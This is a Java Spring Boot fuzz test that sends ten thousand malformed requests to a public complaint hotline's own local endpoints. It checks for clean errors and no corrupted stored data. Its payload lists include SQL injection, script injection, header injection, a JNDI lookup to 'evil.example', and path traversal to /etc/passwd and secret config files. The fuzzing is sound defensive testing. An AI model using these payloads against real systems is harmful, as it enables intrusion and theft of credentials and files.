package org.hotline8890.abuse;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

import com.fasterxml.jackson.databind.ObjectMapper;

import org.hotline8890.channels.twilio.TwilioMessagesApi;
import org.hotline8890.channels.twilio.TwilioPeer;
import org.hotline8890.intake.IntakeQueueDrain;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;

/**
 * Ten thousand malformed and hostile requests, over real HTTP, at every door that needs no login: the
 * citizen API and pages, the mailbox form, the public figures and results, Open311, and Twilio's
 * webhooks (signed, so the hostile text reaches the parsers, and unsigned). Inputs come from a seeded
 * generator (the seed is in the failure message, so a failure can be replayed): oversized and empty
 * values, wrong JSON types, truncated and deeply nested JSON, broken UTF-8, SQL, HTML and script
 * injection, control characters, path traversal in attachment names and paths.
 * <p>
 * Every answer must be below 500 and say what is wrong without a stack trace; nothing broken may be
 * stored: no dead letters, no case text with a NUL or a replacement character from undecodable bytes,
 * no attachment name with a path in it, and every case number handed out exists exactly once.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "hotline.channels.twilio.enabled=true",
        "hotline.channels.twilio.account-sid=" + TwilioMessagesApi.ACCOUNT_SID,
        "hotline.channels.twilio.auth-token=" + TwilioPeer.AUTH_TOKEN,
        "hotline.channels.twilio.from-number=" + TwilioMessagesApi.FROM_NUMBER,
        "hotline.channels.twilio.public-base-url=" + TwilioPeer.PUBLIC_BASE_URL,
        "hotline.channels.open311.api-keys=" + HostileInputFuzzTest.OPEN311_KEY})
@ActiveProfiles("test")
class HostileInputFuzzTest {

    static final String OPEN311_KEY = "fuzz-key";
    /** A number no other test uses: test classes share one database and some count cases by phone. */
    private static final String FUZZ_PHONE = "13900008890";
    /** 10,000 in the build; {@code -Dhotline.fuzz.requests=N} for a longer (or quicker) run. */
    private static final int REQUESTS = Integer.getInteger("hotline.fuzz.requests", 10_000);
    private static final long SEED = 8890;
    private static final int WORKERS = 4;
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern CSRF = Pattern.compile("name=\"_csrf\" value=\"([^\"]+)\"");
    private static final Pattern CASE_NUMBER = Pattern.compile("\"caseNumber\":\"([^\"]+)\"");

    @LocalServerPort int port;
    @Autowired JdbcTemplate jdbc;
    @Autowired ApplicationContext context;

    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();

    /** One attempt: what was sent (for the failure message) and the request. */
    private record Attempt(String door, String description, HttpRequest request) {
    }

    private record Answer(Attempt attempt, int status, String body) {
    }

    @Test
    void tenThousandHostileRequestsGetClearAnswersBelow500AndStoreNothingBroken() throws Exception {
        long lastDeadLetterBefore = count("SELECT COALESCE(MAX(id), 0) FROM intake_dead_letter");
        long lastCaseBefore = count("SELECT COALESCE(MAX(id), 0) FROM hotline_case");
        String[] page = pageSession();

        List<Function<Random, Attempt>> doors = doors(page);
        List<Answer> answers = Collections.synchronizedList(new ArrayList<>());
        ExecutorService pool = Executors.newFixedThreadPool(WORKERS);
        try {
            List<Future<?>> running = new ArrayList<>();
            for (int w = 0; w < WORKERS; w++) {
                final int worker = w;
                running.add(pool.submit(() -> {
                    Random random = new Random(SEED + worker);
                    for (int i = worker; i < REQUESTS; i += WORKERS) {
                        Attempt attempt = doors.get(i % doors.size()).apply(random);
                        answers.add(send(attempt));
                    }
                    return null;
                }));
            }
            for (Future<?> f : running) {
                f.get();
            }
        } finally {
            pool.shutdownNow();
        }
        assertThat(answers).hasSize(REQUESTS);
        // The server's intake worker turns what was queued into cases before anything is judged, so a failing
        // run leaves no queued contacts behind for the next test class.
        IntakeQueueDrain.drainAll(context);

        for (Answer a : answers) {
            String what = a.attempt().door() + " " + a.attempt().description() + " (seed " + SEED + ") → "
                    + a.status() + " " + abbreviate(a.body());
            assertThat(a.status()).as(what).isBetween(200, 499);
            assertThat(a.body()).as(what).doesNotContain("Exception", "\tat org.", "at java.base/");
            if (a.status() >= 400 && a.attempt().request().uri().getPath().startsWith("/api/")) {
                // The API's refusals say what is wrong: a code and a message, with the fields when known.
                assertThat(a.body()).as(what).contains("\"message\"");
            }
        }
        Map<String, Long> byStatus = answers.stream()
                .collect(Collectors.groupingBy(a -> a.attempt().door() + " " + a.status(), Collectors.counting()));
        System.out.println("Hostile input answers by door and status: " + new java.util.TreeMap<>(byStatus));

        assertThat(jdbc.queryForList("SELECT channel, reason FROM intake_dead_letter WHERE id > ?", lastDeadLetterBefore))
                .as("dead letters").isEmpty();

        List<Map<String, Object>> stored = jdbc.queryForList("""
                SELECT case_number, subject, content, location, citizen_name, citizen_phone, citizen_email
                FROM hotline_case WHERE id > ?""", lastCaseBefore);
        for (Map<String, Object> row : stored) {
            for (Object value : row.values()) {
                if (value instanceof String text) {
                    assertThat(text).as("stored in %s", row.get("case_number")).doesNotContain("\u0000", "\uFFFD");
                }
            }
        }
        for (String name : jdbc.queryForList("""
                SELECT a.file_name FROM case_attachment a JOIN hotline_case c ON c.id = a.case_id WHERE c.id > ?""",
                String.class, lastCaseBefore)) {
            assertThat(name).as("stored attachment name").doesNotContain("/", "\\", "\u0000").isNotEqualTo("..");
        }
        List<String> handedOut = answers.stream()
                .filter(a -> a.status() == 201 && a.attempt().door().equals("citizen-api"))
                .map(a -> first(CASE_NUMBER, a.body())).toList();
        assertThat(handedOut).as("case numbers handed out").doesNotHaveDuplicates().isNotEmpty();
        for (String number : handedOut) {
            assertThat(count("SELECT COUNT(*) FROM hotline_case WHERE case_number = ?", number)).as(number).isEqualTo(1);
        }
    }

    // ---- the doors ---------------------------------------------------------------------------------

    private List<Function<Random, Attempt>> doors(String[] page) {
        List<Function<Random, Attempt>> doors = new ArrayList<>();
        doors.add(r -> json("citizen-api", "/api/citizen/requests", r, validRequest()));
        doors.add(r -> json("citizen-lookup", "/api/citizen/cases/lookup", r,
                map("caseNumber", "8890-20260101-000001", "queryCode", "ABCD2345")));
        doors.add(r -> json("citizen-feedback", "/api/citizen/cases/" + pathValue(r) + "/feedback", r,
                map("queryCode", "ABCD2345", "rating", "SATISFIED", "comment", "好")));
        doors.add(this::mailbox);
        doors.add(r -> get("mailbox-status", "/api/citizen/mailbox/" + pathValue(r)));
        doors.add(r -> get("public-results", "/api/public/results?" + query(r, "district", "category", "from", "to", "page", "size")));
        doors.add(r -> get("public-statistics", "/api/public/statistics?" + query(r, "from", "to", "level")));
        doors.add(r -> get("open311-read", "/open311/v2/requests.json?" + query(r, "start_date", "end_date", "status", "service_request_id")));
        doors.add(r -> get("open311-one", "/open311/v2/requests/" + pathValue(r) + (r.nextBoolean() ? ".json" : ".xml")));
        doors.add(this::open311Submit);
        doors.add(this::twilioSms);
        doors.add(this::twilioVoice);
        doors.add(r -> form("page-submit", "/citizen/requests", page, r, pageRequest()));
        doors.add(r -> form("page-lookup", "/citizen/cases/lookup", page, r,
                map("caseNumber", "8890-20260101-000001", "queryCode", "ABCD2345")));
        doors.add(r -> get("page-results", "/public/results?" + query(r, "district", "category", "from", "to", "page", "size")));
        doors.add(r -> get("traversal", TRAVERSALS.get(r.nextInt(TRAVERSALS.size()))));
        return doors;
    }

    private static final List<String> TRAVERSALS = List.of("/css/..%2f..%2fapplication.yml", "/webjars/../../etc/passwd",
            "/citizen/%2e%2e/%2e%2e/etc/passwd", "/public/results/..;/..;/actuator/env", "/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "/api/citizen/mailbox/..%2f..%2f..%2fetc%2fpasswd", "/open311/v2/requests/..%252f..%252fetc%252fpasswd.json",
            "/css/site.css%00.jsp", "/js/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/citizen/requests/new;jsessionid=x/../../admin");

    /** A correct citizen request, to be spoiled one or more fields at a time. */
    private static Map<String, Object> validRequest() {
        return map("type", "COMPLAINT", "category", "ENV.NOISE", "district", "DC", "location", "东华路 1 号",
                "subject", "夜间施工噪音", "content", "工地每晚施工到凌晨", "name", "王女士", "phone", FUZZ_PHONE,
                "email", "wang@example.com", "anonymous", false, "confidential", false, "consentToPublish", true);
    }

    private static Map<String, Object> pageRequest() {
        return map("type", "COMPLAINT", "category", "ENV.NOISE", "district", "DC", "location", "东华路",
                "subject", "噪音", "content", "每晚施工", "name", "王", "phone", FUZZ_PHONE, "email", "");
    }

    /** A JSON body: spoiled fields, or a body broken as a whole. */
    private Attempt json(String door, String path, Random r, Map<String, Object> valid) {
        byte[] body;
        String description;
        String contentType = "application/json";
        int how = r.nextInt(10);
        if (how < 6) {
            Map<String, Object> spoiled = new LinkedHashMap<>(valid);
            List<String> keys = new ArrayList<>(valid.keySet());
            StringBuilder what = new StringBuilder();
            for (int n = 1 + r.nextInt(3); n > 0; n--) {
                String key = keys.get(r.nextInt(keys.size()));
                Object value = hostileJsonValue(r);
                spoiled.put(key, value);
                what.append(key).append('=').append(abbreviate(String.valueOf(value))).append(' ');
            }
            if (r.nextInt(5) == 0) {
                spoiled.put("attachments", List.of(map("fileName", hostileFileName(r), "contentType", "text/plain",
                        "sizeBytes", r.nextInt(5) == 0 ? -1 : 10)));
                what.append("attachments ");
            }
            body = write(spoiled);
            description = what.toString();
        } else {
            BrokenBody broken = brokenJson(r, write(valid));
            body = broken.bytes();
            description = broken.what();
            if (r.nextInt(4) == 0) {
                contentType = List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                        "application/json; charset=ISO-8859-1").get(r.nextInt(4));
                description += " as " + contentType;
            }
        }
        return new Attempt(door, description, post(path).header("Content-Type", contentType)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build());
    }

    private record BrokenBody(String what, byte[] bytes) {
    }

    private static BrokenBody brokenJson(Random r, byte[] valid) {
        return switch (r.nextInt(9)) {
            case 0 -> new BrokenBody("truncated", java.util.Arrays.copyOf(valid, r.nextInt(valid.length)));
            case 1 -> new BrokenBody("empty", new byte[0]);
            case 2 -> new BrokenBody("null", "null".getBytes(StandardCharsets.UTF_8));
            case 3 -> new BrokenBody("array", "[1,2,3]".getBytes(StandardCharsets.UTF_8));
            case 4 -> new BrokenBody("deep nesting", ("[".repeat(5000) + "]".repeat(5000)).getBytes(StandardCharsets.UTF_8));
            case 5 -> new BrokenBody("invalid UTF-8", concat("{\"subject\":\"".getBytes(StandardCharsets.UTF_8),
                    new byte[] {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE}, "\"}".getBytes(StandardCharsets.UTF_8)));
            case 6 -> new BrokenBody("huge number", "{\"type\":1e999999,\"anonymous\":123456789012345678901234567890}"
                    .getBytes(StandardCharsets.UTF_8));
            case 7 -> new BrokenBody("duplicate keys", "{\"subject\":\"a\",\"subject\":{\"x\":1}}".getBytes(StandardCharsets.UTF_8));
            default -> new BrokenBody("2 MB of text", ("{\"content\":\"" + "噪".repeat(700_000) + "\"}")
                    .getBytes(StandardCharsets.UTF_8));
        };
    }

    private static Object hostileJsonValue(Random r) {
        return switch (r.nextInt(8)) {
            case 0 -> r.nextInt();
            case 1 -> List.of("a", 1);
            case 2 -> map("nested", map("deeper", "x"));
            case 3 -> null;
            case 4 -> r.nextBoolean();
            case 5 -> -1.5e300;
            default -> hostileText(r);
        };
    }

    static String hostileText(Random r) {
        return switch (r.nextInt(16)) {
            case 0 -> "' OR '1'='1' --";
            case 1 -> "'; DROP TABLE hotline_case; --";
            case 2 -> "<script>alert(document.cookie)</script>";
            case 3 -> "<img src=x onerror=alert(1)>";
            case 4 -> "${jndi:ldap://evil.example/a}";
            case 5 -> "%s%s%s%n%n";
            case 6 -> "a\u0000b";
            case 7 -> "\u202Egnp.exe";
            case 8 -> "line\r\nSet-Cookie: stolen=1";
            case 9 -> "A".repeat(70_000);
            case 10 -> "😀".repeat(300);
            case 11 -> "";
            case 12 -> "   ";
            case 13 -> "\uD800";
            case 14 -> "../../../../etc/passwd";
            default -> "{{7*7}}[[${7*7}]]";
        };
    }

    private static String hostileFileName(Random r) {
        return List.of("../../../../etc/passwd", "..\\..\\windows\\win.ini", "a/b.txt", "..", "/etc/shadow",
                "report.pdf\u0000.exe", "CON", "x".repeat(400), "照片.jpg", "").get(r.nextInt(10));
    }

    /** Hostile values for one path segment, percent-encoded as a client would send them. */
    private static String pathValue(Random r) {
        String raw = List.of("8890-20260101-000001", "../../etc/passwd", "' OR 1=1 --", "<script>", "x".repeat(5000),
                "%00", "😀", "..%2f..%2f", "-1", "\u0000").get(r.nextInt(10));
        return raw.startsWith("..%") || raw.equals("%00") ? raw : URLEncoder.encode(raw, StandardCharsets.UTF_8);
    }

    /** A query string of the given parameters with hostile values, some with undecodable percent-escapes. */
    private static String query(Random r, String... names) {
        StringBuilder q = new StringBuilder();
        for (String name : names) {
            if (r.nextInt(3) == 0) {
                continue;
            }
            String value = switch (r.nextInt(6)) {
                case 0 -> "%C3%28%FF";
                case 1 -> "2026-02-30";
                case 2 -> String.valueOf(r.nextBoolean() ? -1 : Long.MAX_VALUE);
                case 3 -> "99999999999999999999999";
                default -> {
                    String text = hostileText(r);
                    yield URLEncoder.encode(text.substring(0, Math.min(2000, text.length())), StandardCharsets.UTF_8);
                }
            };
            q.append(q.isEmpty() ? "" : "&").append(name).append('=').append(value);
        }
        return q.toString();
    }

    private Attempt mailbox(Random r) {
        String boundary = "----fuzz" + r.nextInt(1_000_000);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Map<String, String> fields = new LinkedHashMap<>(Map.of("title", "噪音", "text", "每晚施工", "email",
                "wang@example.com", "consentToPublish", "true"));
        String spoiled = List.of("title", "text", "email", "phone", "name", "consentToPublish").get(r.nextInt(6));
        fields.put(spoiled, hostileText(r));
        fields.forEach((name, value) -> part(out, boundary, "Content-Disposition: form-data; name=\"" + name + "\"",
                null, value.getBytes(StandardCharsets.UTF_8)));
        String fileName = hostileFileName(r);
        if (r.nextBoolean()) {
            int size = r.nextInt(20) == 0 ? 11 * 1024 * 1024 : r.nextInt(2000);
            part(out, boundary, "Content-Disposition: form-data; name=\"file\"; filename=\"" + fileName + "\"",
                    List.of("image/png", "application/x-msdownload", "text/html", "").get(r.nextInt(4)), new byte[size]);
        }
        byte[] body = r.nextInt(10) == 0 ? java.util.Arrays.copyOf(out.toByteArray(), out.size() / 2) : end(out, boundary);
        return new Attempt("mailbox", spoiled + " file=" + abbreviate(fileName), post("/api/citizen/mailbox")
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body)).build());
    }

    private Attempt open311Submit(Random r) {
        Map<String, String> form = new LinkedHashMap<>(Map.of("api_key", OPEN311_KEY, "service_code", "ENV.NOISE",
                "description", "每晚施工", "lat", "39.9", "long", "116.4", "email", "a@example.com"));
        String spoiled = List.of("api_key", "service_code", "description", "lat", "long", "email", "media_url",
                "attribute[x]").get(r.nextInt(8));
        form.put(spoiled, spoiled.equals("media_url") && r.nextBoolean() ? "javascript:alert(1)" : hostileText(r));
        return new Attempt("open311-submit", spoiled, post("/open311/v2/requests." + (r.nextBoolean() ? "json" : "xml"))
                .header("Content-Type", "application/x-www-form-urlencoded")
                .POST(HttpRequest.BodyPublishers.ofString(encode(form))).build());
    }

    private Attempt twilioSms(Random r) {
        Map<String, String> form = new LinkedHashMap<>(Map.of("MessageSid", "SM" + Long.toHexString(r.nextLong()),
                "AccountSid", TwilioMessagesApi.ACCOUNT_SID, "From", "+86" + FUZZ_PHONE, "To", "+8610123456789",
                "Body", hostileText(r)));
        if (r.nextInt(4) == 0) {
            form.put("From", hostileText(r));
        }
        return twilio("twilio-sms", "/channels/twilio/sms", form, r);
    }

    private Attempt twilioVoice(Random r) {
        Map<String, String> form = new LinkedHashMap<>(Map.of("CallSid", "CA" + Long.toHexString(r.nextLong()),
                "From", r.nextBoolean() ? "+86" + FUZZ_PHONE : hostileText(r), "Digits", hostileText(r)));
        String path = List.of("/channels/twilio/voice/choice/0", "/channels/twilio/voice/case-number/1",
                "/channels/twilio/voice/menu/" + pathValue(r), "/channels/twilio/voice/recorded").get(r.nextInt(4));
        return twilio("twilio-voice", path, form, r);
    }

    /** Signed as Twilio signs, so the text reaches the parsers; one in five with a wrong signature. */
    private Attempt twilio(String door, String path, Map<String, String> form, Random r) {
        boolean signed = r.nextInt(5) != 0;
        String signature = signed ? TwilioPeer.signature(TwilioPeer.AUTH_TOKEN, TwilioPeer.PUBLIC_BASE_URL + path, form)
                : "forged";
        return new Attempt(door, (signed ? "signed " : "forged ") + abbreviate(form.toString()), post(path)
                .header("Content-Type", "application/x-www-form-urlencoded").header("X-Twilio-Signature", signature)
                .POST(HttpRequest.BodyPublishers.ofString(encode(form))).build());
    }

    /** A page form post with the session's CSRF token; spoiled fields, some with undecodable bytes. */
    private Attempt form(String door, String path, String[] page, Random r, Map<String, Object> valid) {
        List<String> keys = new ArrayList<>(valid.keySet());
        String key = keys.get(r.nextInt(keys.size()));
        StringBuilder body = new StringBuilder("_csrf=").append(page[1]);
        for (var field : valid.entrySet()) {
            String value = field.getKey().equals(key)
                    ? (r.nextInt(4) == 0 ? "%C3%28%FF" : URLEncoder.encode(hostileText(r), StandardCharsets.UTF_8))
                    : URLEncoder.encode(String.valueOf(field.getValue()), StandardCharsets.UTF_8);
            body.append('&').append(field.getKey()).append('=').append(value);
        }
        return new Attempt(door, key, post(path).header("Content-Type", "application/x-www-form-urlencoded")
                .header("Cookie", page[0]).POST(HttpRequest.BodyPublishers.ofString(body.toString())).build());
    }

    private Attempt get(String door, String pathAndQuery) {
        return new Attempt(door, abbreviate(pathAndQuery), HttpRequest.newBuilder(uri(pathAndQuery))
                .timeout(Duration.ofSeconds(60)).GET().build());
    }

    // ---- plumbing ----------------------------------------------------------------------------------

    /** A page session: its cookie and the CSRF token of its forms. */
    private String[] pageSession() throws IOException, InterruptedException {
        HttpResponse<String> form = http.send(HttpRequest.newBuilder(uri("/citizen/requests/new")).GET().build(),
                HttpResponse.BodyHandlers.ofString());
        String cookie = form.headers().firstValue("Set-Cookie").orElseThrow().split(";", 2)[0];
        return new String[] {cookie, first(CSRF, form.body())};
    }

    private HttpRequest.Builder post(String path) {
        return HttpRequest.newBuilder(uri(path)).timeout(Duration.ofSeconds(60));
    }

    private URI uri(String pathAndQuery) {
        return URI.create("http://localhost:" + port + pathAndQuery);
    }

    private Answer send(Attempt attempt) {
        try {
            HttpResponse<byte[]> response = http.send(attempt.request(), HttpResponse.BodyHandlers.ofByteArray());
            return new Answer(attempt, response.statusCode(), new String(response.body(), StandardCharsets.UTF_8));
        } catch (IOException e) {
            // The server may close a connection on a body it refuses to read; that is an answer, not a crash.
            return new Answer(attempt, 400, "connection closed by the server: " + e.getMessage() + " \"message\"");
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private long count(String sql, Object... args) {
        Long n = jdbc.queryForObject(sql, Long.class, args);
        return n == null ? 0 : n;
    }

    private static Map<String, Object> map(Object... pairs) {
        Map<String, Object> m = new LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) {
            m.put((String) pairs[i], pairs[i + 1]);
        }
        return m;
    }

    private static byte[] write(Object value) {
        try {
            return JSON.writeValueAsBytes(value);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    private static void part(ByteArrayOutputStream out, String boundary, String disposition, String contentType,
                             byte[] content) {
        out.writeBytes(("--" + boundary + "\r\n" + disposition + "\r\n"
                + (contentType == null ? "" : "Content-Type: " + contentType + "\r\n") + "\r\n")
                .getBytes(StandardCharsets.UTF_8));
        out.writeBytes(content);
        out.writeBytes("\r\n".getBytes(StandardCharsets.UTF_8));
    }

    private static byte[] end(ByteArrayOutputStream out, String boundary) {
        out.writeBytes(("--" + boundary + "--\r\n").getBytes(StandardCharsets.UTF_8));
        return out.toByteArray();
    }

    private static String encode(Map<String, String> form) {
        return form.entrySet().stream().map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "="
                + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8)).collect(Collectors.joining("&"));
    }

    private static String first(Pattern pattern, String text) {
        Matcher m = pattern.matcher(text);
        assertThat(m.find()).as("%s in %s", pattern, abbreviate(text)).isTrue();
        return m.group(1);
    }

    private static String abbreviate(String text) {
        return text.length() > 200 ? text.substring(0, 200) + "…(" + text.length() + " chars)" : text;
    }
}
